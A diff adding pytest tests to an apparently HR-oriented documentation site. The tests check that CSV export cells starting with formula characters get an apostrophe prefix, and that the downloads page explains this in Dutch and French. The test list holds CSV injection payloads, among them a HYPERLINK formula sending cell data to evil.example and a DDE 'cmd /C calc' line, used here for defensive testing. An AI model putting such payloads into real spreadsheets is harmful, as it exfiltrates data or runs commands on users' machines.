@@ -464,3 +464,38 @@ def test_hooks_check_prints_the_refusal_without_the_files_content(project: Path,
     assert result.returncode == 1
     assert result.stdout.startswith(f"{COMPETENCY}: this is a symbolic link")
     assert SECRET not in result.stdout + result.stderr and str(tmp_path) not in result.stdout + result.stderr
+
+
+# ---------------------------------------------------------------------------------------------------
+# CSV downloads: no formula runs when HR staff open them in a spreadsheet
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1;"klik")', "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3",
+            "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS, ids=["equals", "at", "plus", "minus", "tab", "carriage return"])
+def test_a_csv_cell_that_starts_like_a_formula_is_read_back_as_text(fixture_site: SiteState, formula: str) -> None:
+    import csv
+    import io
+
+    from hooks.export import competencies_csv
+
+    crafted = crafted_competency(fixture_site.model.competencies[0], formula, ["nl", "fr", "de"])
+    model = dataclasses.replace(fixture_site.model, competencies=(crafted,))
+    content = competencies_csv(model, "nl", fixture_site.labels["nl"])
+    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
+    name, definition, indicators = rows[1][2], rows[1][3], rows[1][6]
+    assert name == definition == f"'{formula}"
+    assert indicators == f"'{formula}\n{formula}"  # the cell starts with the first indicator
+    assert rows[1][4] == "1" and not any(row[0].startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows)
+
+
+@pytest.mark.parametrize(("language", "sentence"), [
+    ("nl", "begint zo'n cel daarom met een apostrof (')"),
+    ("fr", "une telle cellule commence donc par une apostrophe (')"),
+])
+def test_the_downloads_page_says_how_csv_cells_are_neutralised(language: str, sentence: str) -> None:
+    site = load_site(PROJECT, PROJECT / "docs", i18n_languages(read_mkdocs_yml(PROJECT / "mkdocs.yml")))
+    page = site.render(language, "downloads.md")
+    assert sentence in " ".join(page.split())
